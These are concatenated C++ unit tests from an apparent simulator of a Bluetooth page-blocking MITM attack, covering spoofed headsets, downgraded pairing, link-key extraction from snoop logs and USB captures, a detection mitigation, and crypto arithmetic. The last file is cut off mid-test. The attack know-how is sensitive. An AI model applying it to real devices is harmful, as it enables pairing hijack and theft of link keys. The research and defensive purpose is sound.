#include "core/page_blocking.hpp"

namespace blap::core {
namespace {

struct Scenario {
  std::unique_ptr<Simulation> sim;
  Device* attacker = nullptr;
  Device* accessory = nullptr;
  Device* target = nullptr;
};

Scenario make_scenario(std::uint64_t seed, const DeviceProfile& victim,
                       double baseline_bias = 0.5) {
  Scenario s;
  s.sim = std::make_unique<Simulation>(seed);

  DeviceSpec a = attacker_profile().to_spec("attacker-A", *BdAddr::parse("aa:aa:aa:00:00:01"));
  a.controller.page_scan_interval = static_cast<SimTime>(1.28 * kSecond);

  DeviceSpec c = accessory_profile().to_spec("headset-C", *BdAddr::parse("00:1b:7d:da:71:0a"),
                                             ClassOfDevice(ClassOfDevice::kHandsFree));
  c.host.io_capability = hci::IoCapability::kNoInputNoOutput;  // a real headset
  c.controller.page_scan_interval =
      accessory_interval_for_bias(baseline_bias, a.controller.page_scan_interval);

  DeviceSpec m = victim.to_spec("victim-M", *BdAddr::parse("48:90:12:34:56:78"));

  s.attacker = &s.sim->add_device(a);
  s.accessory = &s.sim->add_device(c);
  s.target = &s.sim->add_device(m);
  return s;
}

const DeviceProfile& velvet() { return table2_profiles()[5]; }  // LG VELVET, v5.0
const DeviceProfile& nexus() { return table2_profiles()[1]; }   // Nexus 5x, v4.2

TEST(PageBlocking, EstablishesMitmDeterministically) {
  Scenario s = make_scenario(7, velvet());
  const auto report = PageBlockingAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
  EXPECT_TRUE(report.ploc_established);
  EXPECT_TRUE(report.pairing_completed);
  EXPECT_TRUE(report.mitm_established);
  EXPECT_TRUE(report.attacker_holds_link_key);
}

TEST(PageBlocking, DowngradesToJustWorks) {
  Scenario s = make_scenario(8, velvet());
  const auto report = PageBlockingAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
  EXPECT_TRUE(report.downgraded_to_just_works);
}

TEST(PageBlocking, Version5VictimSeesValuelessPopup) {
  // v5.0 regime (Fig. 7b): the victim gets a Yes/No popup, but with no
  // numeric value that could expose the spoof.
  Scenario s = make_scenario(9, velvet());
  const auto report = PageBlockingAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
  EXPECT_TRUE(report.popup_shown);
  EXPECT_FALSE(report.popup_had_numeric_value);
}

TEST(PageBlocking, Version42VictimPairsSilently) {
  // v4.2 regime (Fig. 7a): the pairing initiator auto-confirms — no UI at all.
  Scenario s = make_scenario(10, nexus());
  const auto report = PageBlockingAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
  EXPECT_TRUE(report.mitm_established);
  EXPECT_FALSE(report.popup_shown);
}

TEST(PageBlocking, VictimDumpMatchesFig12b) {
  Scenario s = make_scenario(11, velvet());
  const auto report = PageBlockingAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
  EXPECT_EQ(report.m_flow, PairingFlow::kPageBlocked);
  // The rendered table carries the Fig. 12b distinguishing rows.
  EXPECT_NE(report.m_flow_table.find("HCI_Connection_Request"), std::string::npos);
  EXPECT_NE(report.m_flow_table.find("HCI_Accept_Connection_Request"), std::string::npos);
  EXPECT_NE(report.m_flow_table.find("HCI_Authentication_Requested"), std::string::npos);
  EXPECT_EQ(report.m_flow_table.find("HCI_Create_Connection"), std::string::npos);
}

TEST(PageBlocking, NormalPairingMatchesFig12a) {
  // Without the attacker, M's dump shows the Fig. 12a flow.
  Scenario s = make_scenario(12, velvet());
  s.attacker->set_radio_enabled(false);
  s.target->host().enable_snoop(true);
  bool done = false;
  s.target->host().pair(s.accessory->address(), [&](hci::Status) { done = true; });
  s.sim->run_for(20 * kSecond);
  ASSERT_TRUE(done);
  const auto analysis = classify_pairing_flow(s.target->host().snoop());
  EXPECT_EQ(analysis.flow, PairingFlow::kNormal);
  EXPECT_TRUE(analysis.saw_create_connection);
  EXPECT_TRUE(analysis.saw_link_key_negative_reply);
  EXPECT_TRUE(analysis.saw_io_capability_request);
}

TEST(PageBlocking, LongPlocWithoutKeepaliveDies) {
  // DESIGN.md ablation 2: hold PLOC past M's idle timeout with no dummy
  // traffic — M's host drops the silent link and the attack fails.
  Scenario s = make_scenario(13, velvet());
  PageBlockingOptions options;
  options.ploc_hold = 30 * kSecond;
  options.pairing_delay = 25 * kSecond;
  options.keepalive = false;
  options.window = 80 * kSecond;
  const auto report =
      PageBlockingAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, options);
  EXPECT_FALSE(report.mitm_established);
}

TEST(PageBlocking, LongPlocWithKeepaliveSurvives) {
  // ...and with SDP-style dummy data (L2CAP echo) the PLOC survives.
  Scenario s = make_scenario(14, velvet());
  PageBlockingOptions options;
  options.ploc_hold = 30 * kSecond;
  options.pairing_delay = 25 * kSecond;
  options.keepalive = true;
  options.window = 80 * kSecond;
  const auto report =
      PageBlockingAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, options);
  EXPECT_TRUE(report.mitm_established);
}

TEST(PageBlocking, DetectorMitigationAbortsPairing) {
  // §VII-B: pairing-initiator + connection-responder + NoInputNoOutput
  // connection initiator => drop the pairing.
  Scenario s = make_scenario(15, velvet());
  apply_page_blocking_detection(*s.target);
  const auto report = PageBlockingAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
  EXPECT_FALSE(report.mitm_established);
  EXPECT_GT(s.target->host().detected_page_blocking_count(), 0);
}

TEST(PageBlocking, DetectorDoesNotBreakNormalPairing) {
  Scenario s = make_scenario(16, velvet());
  apply_page_blocking_detection(*s.target);
  s.attacker->set_radio_enabled(false);
  bool done = false;
  hci::Status status{};
  s.target->host().pair(s.accessory->address(), [&](hci::Status st) {
    done = true;
    status = st;
  });
  s.sim->run_for(20 * kSecond);
  ASSERT_TRUE(done);
  EXPECT_EQ(status, hci::Status::kSuccess);
  EXPECT_EQ(s.target->host().detected_page_blocking_count(), 0);
}

TEST(PageBlocking, BaselineRaceIsIndeterministic) {
  // Without page blocking the outcome varies trial to trial (§VI fn. 1).
  int attacker_wins = 0;
  const int trials = 40;
  for (int i = 0; i < trials; ++i) {
    Scenario s = make_scenario(100 + static_cast<std::uint64_t>(i), velvet(), 0.5);
    if (PageBlockingAttack::baseline_trial(*s.sim, *s.attacker, *s.accessory, *s.target))
      ++attacker_wins;
  }
  EXPECT_GT(attacker_wins, 5);          // the attacker sometimes wins...
  EXPECT_LT(attacker_wins, trials - 5);  // ...but cannot force it
}

TEST(PageBlocking, AttackIsDeterministicAcrossSeeds) {
  // With page blocking, every seed yields MITM success (the 100 % column).
  for (std::uint64_t seed = 500; seed < 510; ++seed) {
    Scenario s = make_scenario(seed, velvet());
    const auto report =
        PageBlockingAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
    EXPECT_TRUE(report.mitm_established) << "seed " << seed;
  }
}

}  // namespace
}  // namespace blap::core
