// Unit tests for the attacker's analysis tooling: snoop extractor, USB
// extractor and the Fig. 12 flow classifier — fed with hand-built inputs.
#include <gtest/gtest.h>

#include "core/flow_classifier.hpp"
#include "core/snoop_extractor.hpp"
#include "core/usb_extractor.hpp"
#include "hci/commands.hpp"
#include "hci/events.hpp"

namespace blap::core {
namespace {

const BdAddr kAddrM = *BdAddr::parse("48:90:12:34:56:78");
const BdAddr kAddrC = *BdAddr::parse("00:1b:7d:da:71:0a");

crypto::LinkKey key_of(std::uint8_t fill) {
  crypto::LinkKey key{};
  key.fill(fill);
  return key;
}

hci::SnoopRecord rec(SimTime t, hci::Direction dir, hci::HciPacket packet) {
  hci::SnoopRecord record;
  record.timestamp_us = t;
  record.direction = dir;
  record.packet = std::move(packet);
  return record;
}

TEST(SnoopExtractor, FindsRequestReplyKeys) {
  hci::SnoopLog log;
  hci::LinkKeyRequestReplyCmd cmd;
  cmd.bdaddr = kAddrM;
  cmd.link_key = key_of(0x71);
  log.append(rec(10, hci::Direction::kHostToController, cmd.encode()));

  const auto keys = extract_link_keys(log);
  ASSERT_EQ(keys.size(), 1u);
  EXPECT_EQ(keys[0].peer, kAddrM);
  EXPECT_EQ(keys[0].key, key_of(0x71));
  EXPECT_EQ(keys[0].source, KeySource::kLinkKeyRequestReply);
  EXPECT_EQ(keys[0].frame_index, 1u);
  EXPECT_EQ(keys[0].timestamp_us, 10u);
}

TEST(SnoopExtractor, FindsNotificationKeys) {
  hci::SnoopLog log;
  hci::LinkKeyNotificationEvt evt;
  evt.bdaddr = kAddrC;
  evt.link_key = key_of(0x42);
  log.append(rec(20, hci::Direction::kControllerToHost, evt.encode()));
  const auto keys = extract_link_keys(log);
  ASSERT_EQ(keys.size(), 1u);
  EXPECT_EQ(keys[0].source, KeySource::kLinkKeyNotification);
}

TEST(SnoopExtractor, IgnoresNonKeyTraffic) {
  hci::SnoopLog log;
  log.append(rec(1, hci::Direction::kHostToController,
                 hci::make_command(hci::op::kCreateConnection, Bytes(13))));
  log.append(rec(2, hci::Direction::kControllerToHost,
                 hci::make_event(hci::ev::kConnectionComplete, Bytes(11))));
  log.append(rec(3, hci::Direction::kHostToController,
                 hci::make_command(hci::op::kLinkKeyRequestNegativeReply, Bytes(6))));
  EXPECT_TRUE(extract_link_keys(log).empty());
}

TEST(SnoopExtractor, LatestKeyPerPeerWins) {
  hci::SnoopLog log;
  hci::LinkKeyRequestReplyCmd old_key;
  old_key.bdaddr = kAddrM;
  old_key.link_key = key_of(0x01);
  hci::LinkKeyRequestReplyCmd new_key;
  new_key.bdaddr = kAddrM;
  new_key.link_key = key_of(0x02);
  log.append(rec(1, hci::Direction::kHostToController, old_key.encode()));
  log.append(rec(2, hci::Direction::kHostToController, new_key.encode()));

  const auto latest = extract_link_key_for(log, kAddrM);
  ASSERT_TRUE(latest.has_value());
  EXPECT_EQ(latest->key, key_of(0x02));
  EXPECT_FALSE(extract_link_key_for(log, kAddrC).has_value());
}

TEST(SnoopExtractor, SkipsTruncatedKeyPackets) {
  // A filtered dump (mitigation) leaves only the header: must not yield keys.
  hci::SnoopLog log;
  hci::LinkKeyRequestReplyCmd cmd;
  cmd.bdaddr = kAddrM;
  cmd.link_key = key_of(0x77);
  hci::HciPacket packet = cmd.encode();
  packet.payload.resize(3);  // header only
  log.append(rec(1, hci::Direction::kHostToController, packet));
  EXPECT_TRUE(extract_link_keys(log).empty());
}

TEST(UsbExtractor, FindsPatternInRawStream) {
  // Build a raw stream by hand: junk + key-bearing command body + junk.
  hci::LinkKeyRequestReplyCmd cmd;
  cmd.bdaddr = kAddrM;
  cmd.link_key = key_of(0xC4);
  Bytes stream(37, 0x00);  // leading NULLs
  const Bytes body = cmd.encode().payload;
  stream.insert(stream.end(), body.begin(), body.end());
  stream.insert(stream.end(), 11, 0xFF);

  const auto keys = extract_link_keys_from_usb(stream);
  ASSERT_EQ(keys.size(), 1u);
  EXPECT_EQ(keys[0].peer, kAddrM);
  EXPECT_EQ(keys[0].key, key_of(0xC4));
  EXPECT_EQ(keys[0].frame_index, 37u);  // byte offset of the match
}

TEST(UsbExtractor, NoFalsePositiveOnShortStreams) {
  EXPECT_TRUE(extract_link_keys_from_usb(Bytes{0x0b, 0x04, 0x16}).empty());
  EXPECT_TRUE(extract_link_keys_from_usb(Bytes{}).empty());
}

TEST(UsbExtractor, FindsAllOccurrences) {
  hci::LinkKeyRequestReplyCmd cmd;
  cmd.bdaddr = kAddrM;
  cmd.link_key = key_of(0x11);
  Bytes stream;
  for (int i = 0; i < 3; ++i) {
    const Bytes body = cmd.encode().payload;
    stream.insert(stream.end(), body.begin(), body.end());
    stream.insert(stream.end(), 5, 0x00);
  }
  EXPECT_EQ(extract_link_keys_from_usb(stream).size(), 3u);
}

TEST(FlowClassifier, EmptyLogIsNoPairing) {
  EXPECT_EQ(classify_pairing_flow(hci::SnoopLog{}).flow, PairingFlow::kNone);
}

TEST(FlowClassifier, NormalPairingSignature) {
  hci::SnoopLog log;
  hci::CreateConnectionCmd create;
  create.bdaddr = kAddrC;
  log.append(rec(1, hci::Direction::kHostToController, create.encode()));
  log.append(rec(2, hci::Direction::kHostToController,
                 hci::AuthenticationRequestedCmd{0x0006}.encode()));
  const auto analysis = classify_pairing_flow(log);
  EXPECT_EQ(analysis.flow, PairingFlow::kNormal);
  EXPECT_EQ(analysis.pairing_frame, 2u);
}

TEST(FlowClassifier, PageBlockedSignature) {
  hci::SnoopLog log;
  log.append(rec(1, hci::Direction::kControllerToHost,
                 hci::ConnectionRequestEvt{kAddrC, ClassOfDevice(0), 1}.encode()));
  hci::AcceptConnectionRequestCmd accept;
  accept.bdaddr = kAddrC;
  log.append(rec(2, hci::Direction::kHostToController, accept.encode()));
  log.append(rec(3, hci::Direction::kHostToController,
                 hci::AuthenticationRequestedCmd{0x0003}.encode()));
  const auto analysis = classify_pairing_flow(log);
  EXPECT_EQ(analysis.flow, PairingFlow::kPageBlocked);
  EXPECT_TRUE(analysis.saw_connection_request);
  EXPECT_TRUE(analysis.saw_accept_connection);
  EXPECT_FALSE(analysis.saw_create_connection);
}

TEST(FlowClassifier, AuthWithoutEitherPrefixIsInconsistent) {
  hci::SnoopLog log;
  log.append(rec(1, hci::Direction::kHostToController,
                 hci::AuthenticationRequestedCmd{0x0001}.encode()));
  EXPECT_EQ(classify_pairing_flow(log).flow, PairingFlow::kInconsistent);
}

TEST(FlowClassifier, AcceptAfterAuthDoesNotCountAsPageBlocked) {
  // Ordering matters: an inbound connection AFTER the pairing started is a
  // different story (e.g. a second device connecting).
  hci::SnoopLog log;
  hci::CreateConnectionCmd create;
  create.bdaddr = kAddrC;
  log.append(rec(1, hci::Direction::kHostToController, create.encode()));
  log.append(rec(2, hci::Direction::kHostToController,
                 hci::AuthenticationRequestedCmd{0x0006}.encode()));
  log.append(rec(3, hci::Direction::kControllerToHost,
                 hci::ConnectionRequestEvt{kAddrM, ClassOfDevice(0), 1}.encode()));
  hci::AcceptConnectionRequestCmd accept;
  accept.bdaddr = kAddrM;
  log.append(rec(4, hci::Direction::kHostToController, accept.encode()));
  EXPECT_NE(classify_pairing_flow(log).flow, PairingFlow::kPageBlocked);
}

}  // namespace
}  // namespace blap::core
