// Integration tests for the host's GAP service APIs: scan modes (including
// the §II-B non-connectable defense), SDP service discovery, remote names,
// and end-to-end attack persistence.
#include <gtest/gtest.h>

#include "core/device.hpp"
#include "core/page_blocking.hpp"

namespace blap::core {
namespace {

DeviceSpec spec(const std::string& name, const std::string& addr) {
  DeviceSpec s;
  s.name = name;
  s.address = *BdAddr::parse(addr);
  return s;
}

class HostServices : public ::testing::Test {
 protected:
  void SetUp() override {
    sim = std::make_unique<Simulation>(70);
    m = &sim->add_device(spec("phone", "48:90:00:00:00:01"));
    c = &sim->add_device(spec("headset", "00:1b:00:00:00:02"));
  }
  std::unique_ptr<Simulation> sim;
  Device* m = nullptr;
  Device* c = nullptr;
};

TEST_F(HostServices, NonDiscoverableDeviceHiddenFromInquiry) {
  c->host().set_scan_mode(hci::ScanEnable::kPageOnly);
  sim->run_for(100 * kMillisecond);
  std::vector<host::HostStack::Discovered> found;
  m->host().discover(2, [&](std::vector<host::HostStack::Discovered> r) { found = r; });
  sim->run_for(5 * kSecond);
  EXPECT_TRUE(found.empty());
  // ...but still connectable.
  bool connected = false;
  m->host().connect_only(c->address(), [&](hci::Status s) {
    connected = s == hci::Status::kSuccess;
  });
  sim->run_for(5 * kSecond);
  EXPECT_TRUE(connected);
}

TEST_F(HostServices, NonConnectableModeDefeatsPaging) {
  // §II-B: "a responder may set the non-connectable mode to disable the
  // page procedure."
  c->host().set_scan_mode(hci::ScanEnable::kNone);
  sim->run_for(100 * kMillisecond);
  hci::Status status = hci::Status::kSuccess;
  bool done = false;
  m->host().connect_only(c->address(), [&](hci::Status s) {
    status = s;
    done = true;
  });
  sim->run_for(10 * kSecond);
  ASSERT_TRUE(done);
  EXPECT_EQ(status, hci::Status::kPageTimeout);
}

TEST_F(HostServices, NonConnectableVictimDefeatsPageBlocking) {
  // A page-blocking attacker cannot PLOC a device that will not answer
  // pages — the strongest (if impractical) defense.
  Simulation sim2(71);
  Device& attacker = sim2.add_device(spec("attacker", "aa:aa:aa:00:00:01"));
  Device& accessory = sim2.add_device(spec("headset", "00:1b:7d:da:71:0a"));
  Device& target = sim2.add_device(spec("victim", "48:90:12:34:56:78"));
  target.host().set_scan_mode(hci::ScanEnable::kInquiryOnly);  // no page scan
  sim2.run_for(100 * kMillisecond);
  const auto report = PageBlockingAttack::run(sim2, attacker, accessory, target, {});
  EXPECT_FALSE(report.ploc_established);
  EXPECT_FALSE(report.mitm_established);
}

TEST_F(HostServices, SdpFindsAdvertisedService) {
  std::optional<host::SdpClient::Result> result;
  bool done = false;
  m->host().discover_services(c->address(), uuid16::kNap,
                              [&](std::optional<host::SdpClient::Result> r) {
                                result = r;
                                done = true;
                              });
  sim->run_for(10 * kSecond);
  ASSERT_TRUE(done);
  ASSERT_TRUE(result.has_value());
  EXPECT_TRUE(result->found);
  EXPECT_FALSE(result->all_services.empty());
}

TEST_F(HostServices, SdpReportsMissingService) {
  std::optional<host::SdpClient::Result> result;
  m->host().discover_services(c->address(), 0x1234 /* bogus uuid */,
                              [&](std::optional<host::SdpClient::Result> r) { result = r; });
  sim->run_for(10 * kSecond);
  ASSERT_TRUE(result.has_value());
  EXPECT_FALSE(result->found);
}

TEST_F(HostServices, SdpWorksWithoutAuthentication) {
  // GAP allows SDP on an unauthenticated link — the property the paper's
  // §VII-B discussion leans on (a connection may legitimately never pair).
  std::optional<host::SdpClient::Result> result;
  m->host().discover_services(c->address(), uuid16::kSdpServer,
                              [&](std::optional<host::SdpClient::Result> r) { result = r; });
  sim->run_for(10 * kSecond);
  ASSERT_TRUE(result.has_value());
  EXPECT_TRUE(result->found);
  // And no bond was created along the way.
  EXPECT_FALSE(m->host().security().is_bonded(c->address()));
}

TEST_F(HostServices, RemoteNameRequest) {
  bool connected = false;
  m->host().connect_only(c->address(), [&](hci::Status s) {
    connected = s == hci::Status::kSuccess;
  });
  sim->run_for(5 * kSecond);
  ASSERT_TRUE(connected);
  std::optional<std::string> name;
  m->host().request_remote_name(c->address(), [&](std::optional<std::string> n) { name = n; });
  sim->run_for(2 * kSecond);
  ASSERT_TRUE(name.has_value());
  EXPECT_EQ(*name, "headset");
}

TEST_F(HostServices, RemoteNameFailsWithoutConnection) {
  std::optional<std::string> name = "sentinel";
  bool done = false;
  m->host().request_remote_name(c->address(), [&](std::optional<std::string> n) {
    name = n;
    done = true;
  });
  sim->run_for(2 * kSecond);
  ASSERT_TRUE(done);
  EXPECT_FALSE(name.has_value());
}

TEST(AttackPersistence, PageBlockedKeyWorksInLaterSessions) {
  // The paper's end goal: PERSISTENT impersonation. After page blocking, the
  // attacker holds M's bond for "C" — days later (new connection, victim
  // reboots...) the attacker reconnects with the stored key, no UI at all.
  Simulation sim(72);
  Device& attacker = sim.add_device(spec("attacker", "aa:aa:aa:00:00:01"));
  Device& accessory = sim.add_device(spec("headset", "00:1b:7d:da:71:0a"));
  Device& target = sim.add_device(spec("victim", "48:90:12:34:56:78"));
  accessory.host().config().io_capability = hci::IoCapability::kNoInputNoOutput;

  const auto report = PageBlockingAttack::run(sim, attacker, accessory, target, {});
  ASSERT_TRUE(report.mitm_established);

  // Tear everything down; time passes.
  attacker.host().disconnect(target.address());
  sim.run_for(5 * kSecond);
  ASSERT_FALSE(target.host().has_acl(accessory.address()));
  const std::size_t popups_before = target.host().popup_history().size();

  // The attacker comes back: PAN tethering straight through LMP auth.
  bool pan_ok = false;
  attacker.host().connect_pan(target.address(), [&](bool ok) { pan_ok = ok; });
  sim.run_for(20 * kSecond);
  EXPECT_TRUE(pan_ok);
  EXPECT_EQ(target.host().popup_history().size(), popups_before);  // silent
}

}  // namespace
}  // namespace blap::core

// NOTE: appended — EIR names surfacing in discovery.
namespace blap::core {
namespace {

TEST(Discovery, ResultsCarryEirNames) {
  Simulation sim(160);
  Device& scanner = sim.add_device(spec("scanner", "00:00:00:00:00:01"));
  Device& target = sim.add_device(spec("friendly-speaker", "00:00:00:00:00:02"));
  (void)target;
  std::vector<host::HostStack::Discovered> found;
  scanner.host().discover(2, [&](std::vector<host::HostStack::Discovered> r) {
    found = std::move(r);
  });
  sim.run_for(5 * kSecond);
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].name, "friendly-speaker");
  EXPECT_NE(found[0].rssi, 0);
}

TEST(Discovery, SpoofedDeviceAdvertisesStolenNameToo) {
  // The attacker's controller reports its (spoofed) identity in the EIR —
  // the scan list shows "headset", indistinguishable from the real thing.
  Simulation sim(161);
  Device& scanner = sim.add_device(spec("scanner", "00:00:00:00:00:01"));
  Device& attacker = sim.add_device(spec("attacker", "aa:aa:aa:00:00:02"));
  attacker.spoof_identity(*BdAddr::parse("00:1b:7d:da:71:0a"),
                          ClassOfDevice(ClassOfDevice::kHandsFree));
  std::vector<host::HostStack::Discovered> found;
  scanner.host().discover(2, [&](std::vector<host::HostStack::Discovered> r) {
    found = std::move(r);
  });
  sim.run_for(5 * kSecond);
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].address.to_string(), "00:1b:7d:da:71:0a");
  EXPECT_EQ(found[0].class_of_device.describe(), "Audio/Video");
}

}  // namespace
}  // namespace blap::core
