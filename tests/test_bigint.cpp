// Unit tests for the 256-bit modular arithmetic under the ECDH implementation.
#include <gtest/gtest.h>

#include "common/rng.hpp"
#include "crypto/bigint.hpp"

namespace blap::crypto {
namespace {

__extension__ typedef unsigned __int128 u128;

TEST(U256, FromHexAndBack) {
  auto v = U256::from_hex("0123456789abcdef");
  ASSERT_TRUE(v.has_value());
  EXPECT_EQ(v->to_hex(),
            std::string(48, '0') + "0123456789abcdef");
  // to_hex is fixed 64 digits
  EXPECT_EQ(v->to_hex().size(), 64u);
}

TEST(U256, FromHexRejectsBadInput) {
  EXPECT_FALSE(U256::from_hex("").has_value());
  EXPECT_FALSE(U256::from_hex("xyz").has_value());
  EXPECT_FALSE(U256::from_hex(std::string(65, 'f')).has_value());
}

TEST(U256, BytesRoundTrip) {
  auto v = *U256::from_hex("deadbeef00112233445566778899aabbccddeeff0102030405060708090a0b0c");
  const auto bytes = v.to_bytes_be();
  auto back = U256::from_bytes_be(BytesView(bytes.data(), bytes.size()));
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(*back, v);
}

TEST(U256, ShortBytesAreZeroExtended) {
  const Bytes b = {0x01, 0x02};
  auto v = U256::from_bytes_be(b);
  ASSERT_TRUE(v.has_value());
  EXPECT_EQ(*v, U256(0x0102));
}

TEST(U256, AdditionWithCarryOut) {
  U256 max = *U256::from_hex(std::string(64, 'f'));
  U256 out;
  EXPECT_EQ(U256::add(max, U256(1), out), 1u);
  EXPECT_TRUE(out.is_zero());
}

TEST(U256, SubtractionWithBorrow) {
  U256 out;
  EXPECT_EQ(U256::sub(U256(0), U256(1), out), 1u);
  EXPECT_EQ(out, *U256::from_hex(std::string(64, 'f')));
}

TEST(U256, Comparison) {
  EXPECT_LT(U256(1), U256(2));
  auto big = *U256::from_hex("100000000000000000000000000000000");  // 2^128
  EXPECT_GT(big, U256(0xffffffffffffffffULL));
}

TEST(U256, BitAccessAndLength) {
  auto v = *U256::from_hex("8000000000000001");
  EXPECT_TRUE(v.bit(0));
  EXPECT_TRUE(v.bit(63));
  EXPECT_FALSE(v.bit(32));
  EXPECT_EQ(v.bit_length(), 64u);
  EXPECT_EQ(U256(0).bit_length(), 0u);
  EXPECT_EQ(U256(1).bit_length(), 1u);
}

TEST(U512, MulSmallValues) {
  const U512 prod = U512::mul(U256(0xFFFFFFFFULL), U256(0xFFFFFFFFULL));
  EXPECT_EQ(mod(prod, *U256::from_hex("10000000000000000")), U256(0xFFFFFFFE00000001ULL));
}

TEST(Mod, ReducesWideProduct) {
  // (2^255) * 2 mod (2^255 - 19-ish prime substitute): use p = 2^61 - 1.
  const U256 p(0x1FFFFFFFFFFFFFFFULL);
  const U256 a(0x1234567890ABCDEFULL);
  const U256 b(0x0FEDCBA987654321ULL);
  // Verify against __int128 arithmetic.
  const u128 wide = static_cast<u128>(0x1234567890ABCDEFULL) * 0x0FEDCBA987654321ULL;
  const std::uint64_t expect = static_cast<std::uint64_t>(wide % 0x1FFFFFFFFFFFFFFFULL);
  EXPECT_EQ(mul_mod(a, b, p), U256(expect));
}

TEST(ModularOps, AddSubInverse) {
  const U256 p = *U256::from_hex("ffffffff00000001000000000000000000000000ffffffffffffffffffffffff");
  const U256 a = *U256::from_hex("123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef0");
  const U256 b = *U256::from_hex("fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210");
  const U256 am = mod(U512::widen(a), p);
  const U256 bm = mod(U512::widen(b), p);
  EXPECT_EQ(sub_mod(add_mod(am, bm, p), bm, p), am);
  EXPECT_EQ(add_mod(sub_mod(am, bm, p), bm, p), am);
}

TEST(PowMod, FermatLittleTheorem) {
  // a^(p-1) = 1 mod p for prime p.
  const U256 p(101);
  for (std::uint64_t a = 2; a < 10; ++a) {
    EXPECT_EQ(pow_mod(U256(a), U256(100), p), U256(1)) << a;
  }
}

TEST(PowMod, KnownSmallCase) {
  EXPECT_EQ(pow_mod(U256(3), U256(7), U256(1000)), U256(187));  // 3^7 = 2187
}

TEST(InvModPrime, ProducesMultiplicativeInverse) {
  const U256 p = *U256::from_hex("ffffffff00000001000000000000000000000000ffffffffffffffffffffffff");
  const U256 a = *U256::from_hex("deadbeefcafebabe0123456789abcdef");
  const U256 inv = inv_mod_prime(a, p);
  EXPECT_EQ(mul_mod(a, inv, p), U256(1));
}

TEST(InvModPrime, SmallPrime) {
  // 3 * 4 = 12 = 1 mod 11.
  EXPECT_EQ(inv_mod_prime(U256(3), U256(11)), U256(4));
}

// Property sweep: (a*b) mod p computed two ways agrees for many operands.
class MulModProperty : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(MulModProperty, MatchesInt128Reference) {
  const std::uint64_t p64 = 0xFFFFFFFFFFFFFFC5ULL;  // largest 64-bit prime
  const std::uint64_t a = GetParam() * 0x9E3779B97F4A7C15ULL + 1;
  const std::uint64_t b = GetParam() * 0xBF58476D1CE4E5B9ULL + 7;
  const u128 expect = (static_cast<u128>(a % p64) * (b % p64)) % p64;
  EXPECT_EQ(mul_mod(U256(a % p64), U256(b % p64), U256(p64)),
            U256(static_cast<std::uint64_t>(expect)));
}

INSTANTIATE_TEST_SUITE_P(ManyOperands, MulModProperty,
                         ::testing::Range<std::uint64_t>(0, 25));

}  // namespace
}  // namespace blap::crypto

// NOTE: appended differential tests for the Algorithm D reduction.
namespace blap::crypto {
namespace {

class ModDifferential : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(ModDifferential, KnuthMatchesBinaryReference) {
  // Pseudo-random 512-bit dividends and moduli of every limb-width.
  blap::Rng rng(GetParam() * 1315423911ULL + 3);
  for (int width = 1; width <= 4; ++width) {
    std::array<std::uint64_t, 4> mw{};
    for (int i = 0; i < width; ++i) mw[static_cast<std::size_t>(i)] = rng.next_u64();
    if (mw[static_cast<std::size_t>(width - 1)] == 0) mw[static_cast<std::size_t>(width - 1)] = 1;
    const U256 modulus(mw);

    std::array<std::uint64_t, 4> aw{}, bw{};
    for (auto& w : aw) w = rng.next_u64();
    for (auto& w : bw) w = rng.next_u64();
    const U512 value = U512::mul(U256(aw), U256(bw));
    EXPECT_EQ(mod(value, modulus), mod_binary_reference(value, modulus))
        << "width=" << width << " modulus=" << modulus.to_hex();
  }
}

INSTANTIATE_TEST_SUITE_P(RandomOperands, ModDifferential,
                         ::testing::Range<std::uint64_t>(0, 50));

TEST(ModDifferential, EdgeCases) {
  const U256 p256 = *U256::from_hex(
      "ffffffff00000001000000000000000000000000ffffffffffffffffffffffff");
  // Dividend == modulus, modulus-1, modulus+1, 0, and max.
  EXPECT_TRUE(mod(U512::widen(p256), p256).is_zero());
  U256 pm1;
  U256::sub(p256, U256(1), pm1);
  EXPECT_EQ(mod(U512::widen(pm1), p256), pm1);
  EXPECT_TRUE(mod(U512(), p256).is_zero());
  const U512 max_sq = U512::mul(pm1, pm1);
  EXPECT_EQ(mod(max_sq, p256), mod_binary_reference(max_sq, p256));
  // Power-of-two modulus exercises the normalize shift == 0 path.
  const U256 pow2 = *U256::from_hex("8000000000000000000000000000000000000000000000000000000000000000");
  const U512 big = U512::mul(pm1, p256);
  EXPECT_EQ(mod(big, pow2), mod_binary_reference(big, pow2));
}

}  // namespace
}  // namespace blap::crypto
