// Structural validation of the SAFER+ implementation under E1/E21/E22/E3.
#include <gtest/gtest.h>

#include "common/bytes.hpp"
#include "crypto/saferplus.hpp"

namespace blap::crypto {
namespace {

SaferPlus::Key key_of(std::uint8_t fill) {
  SaferPlus::Key k{};
  k.fill(fill);
  return k;
}

TEST(SaferPlusTables, ExpLogAreInverses) {
  const auto& exp = SaferPlus::exp_table();
  const auto& log = SaferPlus::log_table();
  for (int i = 0; i < 256; ++i) {
    EXPECT_EQ(log[exp[static_cast<std::size_t>(i)]], i);
  }
}

TEST(SaferPlusTables, ExpIsPermutationWithKnownFixedPoints) {
  const auto& exp = SaferPlus::exp_table();
  // 45^0 = 1 and 45^128 = 256 == 0 (the GF(257) convention).
  EXPECT_EQ(exp[0], 1);
  EXPECT_EQ(exp[128], 0);
  std::array<bool, 256> seen{};
  for (int i = 0; i < 256; ++i) seen[exp[static_cast<std::size_t>(i)]] = true;
  for (bool s : seen) EXPECT_TRUE(s);
}

TEST(SaferPlus, Deterministic) {
  const SaferPlus cipher(key_of(0x5A));
  SaferPlus::Block input{};
  input.fill(0x33);
  EXPECT_EQ(cipher.ar(input), cipher.ar(input));
  EXPECT_EQ(cipher.ar_prime(input), cipher.ar_prime(input));
}

TEST(SaferPlus, ArAndArPrimeDiffer) {
  const SaferPlus cipher(key_of(0x5A));
